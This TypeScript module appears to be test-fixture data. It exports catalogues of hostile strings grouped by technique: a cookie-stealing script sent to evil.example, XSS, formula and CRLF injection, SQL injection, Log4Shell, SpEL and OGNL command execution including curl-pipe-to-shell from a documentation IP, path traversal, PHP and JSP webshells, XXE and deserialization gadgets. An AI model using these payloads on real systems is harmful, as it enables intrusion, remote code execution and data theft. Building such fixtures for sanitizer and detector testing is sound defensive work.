/** Text that attacks whoever displays it carelessly: markup, script, terminals, text direction, formulas. */
export const HOSTILE_TEXT = {
  script: "<script>fetch('//evil.example/'+document.cookie)</script>",
  attribute: `"><img src=x onerror=alert(document.domain)>`,
  svg: "<svg/onload=confirm`1`>",
  javascriptUrl: "javascript:/*--></title></style></textarea>*/alert(1)//",
  rightToLeft: "invoice\u202Efdp.exe",
  bidiIsolate: "\u2067admin\u2069@example.com",
  ansi: "\u001B[2J\u001B[31mroot@host\u001B[0m\u0007",
  nul: "before\u0000after",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
  formulaCommand: "+cmd|' /C calc'!A0",
  zalgo: "p\u0336a\u0336y\u0336l\u0336o\u0336a\u0336d\u0336",
  emoji: "👩‍💻🔥 \u{1F3F4}\u{E0067}\u{E0062}",
  template: "{{constructor.constructor('return process')()}}",
  crlf: "value\r\nSet-Cookie: admin=true",
} as const;

/** What the attackers send, by technique. */
export const PAYLOADS = {
  sql: [
    "1' UNION SELECT username,password FROM users-- -",
    "1 AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)",
    "admin'/**/OR/**/'1'='1",
    "1;EXEC xp_cmdshell('whoami')--",
  ],
  log4shell: [
    `\${jndi:ldap://198.51.100.41:1389/Basic/Command/Base64/aWQ=}`,
    `\${\${lower:j}ndi:\${lower:l}dap://198.51.100.41/a}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://198.51.100.42:1099/x}`,
  ],
  spel: [
    "T(java.lang.Runtime).getRuntime().exec('curl 198.51.100.41/x.sh|sh')",
    "#{T(org.springframework.cglib.core.ReflectUtils).defineClass('Memshell',T(java.util.Base64).getDecoder().decode('yv66vg…'))}",
  ],
  ognl: [
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    `\${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream()))}`,
  ],
  command: [
    "127.0.0.1;cat /etc/passwd",
    "$(curl -fsSL http://198.51.100.41/k.sh)",
    "|powershell -enc SQBFAFgA",
  ],
  xss: Object.values(HOSTILE_TEXT).slice(0, 4),
  traversal: ["../../../../etc/passwd", "..%252f..%252fWEB-INF/web.xml", "....//....//windows/win.ini"],
  webshell: [
    '<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{…}%>',
    "<?php @eval($_POST['x']);?>",
  ],
  xxe: ['<!DOCTYPE a [<!ENTITY % b SYSTEM "http://198.51.100.121/e.dtd">%b;]>'],
  deserialize: [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.41/a"}',
  ],
} as const;

export type Technique = keyof typeof PAYLOADS;
